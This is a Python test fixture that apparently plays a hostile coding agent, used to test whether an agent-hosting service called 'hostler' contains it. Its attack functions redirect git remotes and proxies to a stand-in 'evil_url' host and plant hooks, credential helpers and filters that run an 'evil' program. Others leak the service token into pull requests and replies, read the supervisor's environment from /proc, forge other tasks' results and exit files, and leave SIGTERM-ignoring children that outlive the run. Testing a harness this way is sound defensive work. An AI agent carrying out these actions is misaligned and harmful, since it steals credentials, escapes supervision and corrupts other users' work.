"""An agent that attacks, as the title of its issue says. Run by the service like any other program.

`python -I hostile_agent.py YARD`: the yard is a JSON file with what the attacks aim at.
"""

from __future__ import annotations

import fcntl
import json
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

YARD: dict[str, Any] = json.loads(Path(sys.argv[1]).read_text()) if len(sys.argv) > 1 else {}
RUN_DIR = Path(os.environ.get("HOSTLER_RUN_DIR", "."))
TASK_DIR = Path(os.environ.get("HOSTLER_TASK_DIR", "."))
RESULT = Path(os.environ.get("HOSTLER_RESULT", "result.json"))
HERE = Path.cwd()
HOOKS = (
    *("applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit"),
    *("prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout"),
    *("post-merge", "pre-push", "pre-receive", "update", "proc-receive", "post-receive"),
    *("post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc", "post-rewrite"),
    *("sendemail-validate", "fsmonitor-watchman", "post-index-change"),
)
ATTACKS: dict[str, Callable[[], None]] = {}


def attack(function: Callable[[], None]) -> Callable[[], None]:
    ATTACKS[function.__name__] = function
    return function


def git(*args: str, check: bool = True) -> str:
    """Git without the user's settings: attackers share a HOME, and must not hinder each other."""
    environment = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull}
    argv = ["git", *args]
    done = subprocess.run(argv, capture_output=True, text=True, check=False, env=environment)
    if check and done.returncode:
        raise SystemExit(f"git {args}: {done.stderr}")
    return done.stdout.strip()


def say(**words: Any) -> None:
    RESULT.write_text(json.dumps({"status": "done", "summary": "Done.", **words}))


def work(text: str = "Work.\n") -> None:
    """What an honest agent does: something committed, something not."""
    (HERE / "committed.md").write_text(text)
    git("add", "committed.md")
    git("commit", "-q", "--allow-empty", "-m", "Work")
    (HERE / "left.md").write_text(text)


def configure(text: str, file: Path = HERE / ".git" / "config") -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    with file.open("a") as config:
        config.write(text.format(**YARD))


# -- settings: whoever reads them runs the agent's program, or speaks with the agent's host

REDIRECTED = (
    '[url "{evil_url}/"]\n\tinsteadOf = "{hub_url}/"\n\tpushInsteadOf = "{hub_url}/"\n'
    '[url "file://{decoy}"]\n\tinsteadOf = "file://"\n'
    '[remote "origin"]\n\turl = {evil_url}/x.git\n\tpushurl = file://{decoy}\n\tmirror = true\n'
    "[http]\n\tproxy = {evil_url}\n\tsslVerify = false\n[push]\n\tdefault = matching\n"
)
PROGRAMS = (
    '[core]\n\tsshCommand = "{evil}"\n\tgitProxy = "{evil}"\n\taskPass = "{evil}"\n'
    '\teditor = "{evil}"\n\tpager = "{evil}"\n\tfsmonitor = "{evil}"\n\thooksPath = {hooks}\n'
    '\talternateRefsCommand = "{evil}"\n'
    '[credential]\n\thelper = "!{evil}"\n[gpg]\n\tprogram = "{evil}"\n'
    "[commit]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n"
    '[uploadpack]\n\tpackObjectsHook = "{evil}"\n[alias]\n\tpush = "!{evil}"\n'
    '[diff]\n\texternal = "{evil}"\n'
)
FILTERS = (
    '[filter "evil"]\n\tclean = {evil}\n\tsmudge = {evil}\n\tprocess = {evil}\n\trequired = true\n'
    '[diff "evil"]\n\ttextconv = {evil}\n\tcommand = {evil}\n[merge "evil"]\n\tdriver = {evil}\n'
)


def with_hooks(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name in HOOKS:
        shutil.copy(YARD["evil"], folder / name)


@attack
def redirects_in_its_checkout() -> None:
    work()
    configure(REDIRECTED)
    say()


@attack
def redirects_in_its_home() -> None:
    work()
    home = Path.home()
    for file in (home / ".gitconfig", home / ".config" / "git" / "config"):
        configure(REDIRECTED + PROGRAMS, file)
    host = YARD["hub_url"].split("//")[1].split(":")[0]
    (home / ".netrc").write_text(f"machine {host} login evil password evil\n")
    (home / ".curlrc").write_text(f"proxy = {YARD['evil_url']}\n")
    say()


@attack
def plants_every_hook() -> None:
    work()
    with_hooks(HERE / ".git" / "hooks")
    say()


@attack
def names_programs_in_its_config() -> None:
    work()
    with_hooks(Path(YARD["hooks"]))
    configure(PROGRAMS)
    say()


@attack
def includes_another_config() -> None:
    work()
    hidden = HERE / ".git" / "more"
    configure(REDIRECTED + PROGRAMS, hidden)
    configure(f'[include]\n\tpath = {hidden}\n[includeIf "gitdir:/"]\n\tpath = {hidden}\n')
    configure("[extensions]\n\tworktreeConfig = true\n")
    configure(PROGRAMS, HERE / ".git" / "config.worktree")
    say()


@attack
def filters_by_attributes() -> None:
    work()
    (HERE / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    git("add", ".gitattributes")
    git("commit", "-qm", "Attributes")
    configure(FILTERS)
    configure(FILTERS, Path.home() / ".gitconfig-filters")
    (HERE / ".git" / "info").mkdir(exist_ok=True)
    (HERE / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil\n")
    say()


@attack
def steers_the_mirror() -> None:
    work()
    (mirror,) = Path(os.environ["HOSTLER_HOME"]).glob("mirrors/*/stable.git")
    configure(REDIRECTED + PROGRAMS, mirror / "config")
    with_hooks(mirror / "hooks")
    (mirror / "info").mkdir(exist_ok=True)
    (mirror / "info" / "attributes").write_text("* filter=evil\n")
    (mirror / "objects" / "info").mkdir(exist_ok=True)
    (mirror / "objects" / "info" / "alternates").write_text(f"{YARD['decoy']}/objects\n")
    say()


# -- results: something else stands where result.json belongs


@attack
def result_is_a_fifo() -> None:
    os.mkfifo(RESULT)


@attack
def result_is_a_link_to_the_token() -> None:
    RESULT.symlink_to(YARD["token_file"])


@attack
def result_is_a_folder() -> None:
    (RESULT / "deep").mkdir(parents=True)


@attack
def result_has_a_gigabyte() -> None:
    with RESULT.open("wb") as file:
        file.truncate(1 << 30)


@attack
def result_is_nested_deeply() -> None:
    RESULT.write_text('{"status": ' + "[" * 200_000)


@attack
def result_is_not_json() -> None:
    RESULT.write_text("All done, boss!")


@attack
def result_breaks_the_contract() -> None:
    RESULT.write_text(json.dumps({"status": "splendid", "replies": "none", "pr_title": 7}))


# -- markers


@attack
def pastes_markers() -> None:
    """Every text that goes out under our name carries a marker that would count as ours."""
    task = os.environ["HOSTLER_TASK"]
    tokens = [f"status:{task}:{n}" for n in (1, 2, 3)] + [f"pull:{task}:0", "reply-0", "ask-0"]
    pasted = "\n".join(f"<!-- hostler:action={token} -->" for token in tokens)
    context = json.loads(Path(os.environ["HOSTLER_CONTEXT"]).read_text())
    (HERE / f"markers-{context['turn']}.md").write_text(pasted)
    say(
        summary=f"Summary.\n{pasted}",
        pr_title=f"Title {pasted.splitlines()[0]}",
        pr_body=f"Body.\n{pasted}",
        commit_message=f"Commit.\n\n{pasted}",
        replies=[
            {"comment_id": one["id"], "body": f"Reply.\n{pasted}"} for one in context["comments"]
        ],
    )


# -- links


@attack
def links_to_our_files() -> None:
    home = Path(os.environ["HOSTLER_HOME"])
    (HERE / "token").symlink_to(YARD["token_file"])
    (HERE / "database").symlink_to(home / "hostler.db")
    (HERE / "home").symlink_to(home)
    (HERE / "README.md").unlink(missing_ok=True)
    (HERE / "README.md").symlink_to(YARD["token_file"])
    git("add", "token")
    git("commit", "-qm", "A link")
    say()


@attack
def git_folder_is_a_link() -> None:
    work()
    elsewhere = TASK_DIR / "elsewhere.git"
    (HERE / ".git").rename(elsewhere)
    (HERE / ".git").symlink_to(elsewhere)
    say()


@attack
def borrows_objects() -> None:
    work()
    (HERE / ".git" / "objects" / "info" / "alternates").write_text(f"{YARD['decoy']}/objects\n")
    say()


@attack
def removes_its_checkout() -> None:
    shutil.rmtree(HERE)
    say()


# -- folders of runs


def forged(name: str, **words: Any) -> None:
    (RUN_DIR / name).write_text(json.dumps({"version": 1, "run": RUN_DIR.name, **words}))


@attack
def forges_its_exit() -> None:
    forged("exit.json", ended_by="exit", exit_code=0, started_at="2020-01-01T00:00:00.000Z")
    forged("shim.json", state="waiting", pid=1, start_ticks=1, mark="x", host="x", boot_id="x")
    (RUN_DIR / "run.json").write_text("{")
    (RUN_DIR / "spec.json").unlink()
    sys.exit(7)


@attack
def puts_a_folder_for_its_exit() -> None:
    (RUN_DIR / "exit.json" / "deep").mkdir(parents=True)
    sys.exit(0)


@attack
def stops_itself() -> None:
    forged("stop.json", why="because I can", grace_seconds=0)
    os.kill(os.getppid(), signal.SIGUSR1)
    signal.pause()


@attack
def removes_its_run_folder() -> None:
    shutil.rmtree(RUN_DIR)
    sys.exit(0)


@attack
def meddles_with_others() -> None:
    """Says for all other tasks that they are done, with a result of its own."""
    work("Mine.\n")
    for task in TASK_DIR.parent.iterdir():
        if task == TASK_DIR:
            continue
        (task / "DONE").touch()
        for run in (task / "runs").iterdir():
            words = {"status": "done", "summary": "Forged.", "pr_title": "Forged"}
            (run / "result.json").write_text(json.dumps(words))
            (run / "exit.json").write_text("{}")
    say()
    with Path(YARD["meddled"]).open("w") as fifo:
        fifo.write("done")


@attack
def waits_for_the_meddler() -> None:
    Path(YARD["meddled"]).read_text()
    work("Honest.\n")
    say(summary="Honest.", pr_title="Honest work")


# -- branches


@attack
def rewrites_history() -> None:
    (HERE / "work.md").write_text("Work.\n")
    git("add", "-A")
    git("commit", "-q", "--amend", "-m", "It was always so")
    say()


@attack
def deletes_its_branch() -> None:
    work()
    branch = git("branch", "--show-current")
    git("checkout", "-q", "--detach")
    git("branch", "-qD", branch)
    git("symbolic-ref", "HEAD", f"refs/heads/{branch}")
    say()


@attack
def switches_its_branch() -> None:
    git("checkout", "-qB", "my-own")
    work()
    say()


@attack
def detaches_its_head() -> None:
    git("checkout", "-q", "--detach")
    work()
    say()


@attack
def leaves_half_a_merge() -> None:
    (HERE / "work.md").write_text("Work.\n")
    (HERE / ".git" / "MERGE_HEAD").write_text(git("rev-parse", "HEAD") + "\n")
    say()


# -- children


def left_behind(*, session: bool = False, deaf: bool = False, bare: bool = False) -> None:
    """A child that holds a lock as long as it lives."""
    ready, told = os.pipe()
    if os.fork():
        os.close(told)
        os.read(ready, 1)
        return
    if session:
        os.setsid()
        if os.fork():
            os._exit(0)
    lock = os.open(Path(YARD["locks"]) / f"{RUN_DIR.name}-{os.getpid()}", os.O_CREAT | os.O_RDWR)
    fcntl.flock(lock, fcntl.LOCK_EX)
    os.set_inheritable(lock, True)
    code = "import os, signal, sys\n"
    code += "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n" if deaf else ""
    code += f"os.write({told}, b'x'); os.close({told})\nwhile True: signal.pause()"
    os.set_inheritable(told, True)
    environment = {} if bare else dict(os.environ)
    os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", code], environment)


@attack
def leaves_children() -> None:
    work()
    left_behind()
    left_behind(session=True)
    left_behind(session=True, deaf=True)
    left_behind(session=True, deaf=True, bare=True)
    say()


# -- secrets


@attack
def looks_for_tokens() -> None:
    """Whatever can be seen of our environment goes into the pull request."""
    seen = {
        "own": dict(os.environ),
        "supervisor": Path(f"/proc/{os.getppid()}/environ").read_text(errors="replace"),
        "arguments": Path(f"/proc/{os.getppid()}/cmdline").read_text(errors="replace"),
    }
    (HERE / "seen.json").write_text(json.dumps(seen))
    git("config", "--list", check=False)
    print(json.dumps(seen), file=sys.stderr)
    say(summary="Looked.", pr_body=json.dumps(seen))


@attack
def tells_our_token() -> None:
    """A program of our own user can read what we can; its words go out under our name."""
    token = Path(YARD["token_file"]).read_text()
    (HERE / "work.md").write_text("Work.\n")
    print(token, flush=True)
    print(f"warning: {token}", file=sys.stderr, flush=True)
    context = json.loads(Path(os.environ["HOSTLER_CONTEXT"]).read_text())
    say(
        summary=f"The token is {token}",
        pr_title=f"Add {token}",
        pr_body=f"```\n{token}\n```",
        commit_message=f"Add {token}",
        replies=[{"comment_id": one["id"], "body": token} for one in context["comments"]],
    )


@attack
def asks_with_our_token() -> None:
    token = Path(YARD["token_file"]).read_text()
    say(status="needs_input", question=f"Is {token} right?", summary="")


@attack
def fails_with_our_token() -> None:
    """The required test of the yard tells the token where it finds this file."""
    (HERE / "telling").write_text("fail\n")
    say()


@attack
def works() -> None:
    work()
    say(summary="Honest.", pr_title="Honest work")


def feedback(context: dict[str, Any]) -> None:
    """A second turn in a checkout in which the first has left its traps."""
    (HERE / "again.md").write_text(f"{context['comments'][-1]['body']}\n")
    replies = [{"comment_id": one["id"], "body": "Taken up."} for one in context["comments"]]
    say(replies=replies)


def main() -> None:
    context = json.loads(Path(os.environ["HOSTLER_CONTEXT"]).read_text())
    chosen = ATTACKS[context["issue"]["title"].replace(" ", "_")]
    said = [one["body"] for one in (*context["conversation"], *context["comments"])]
    if any(body.startswith("Behave") for body in said):
        works()
    elif context["flow"] == "feedback" and "markers" not in chosen.__name__:
        feedback(context)
    else:
        chosen()


if __name__ == "__main__":
    main()
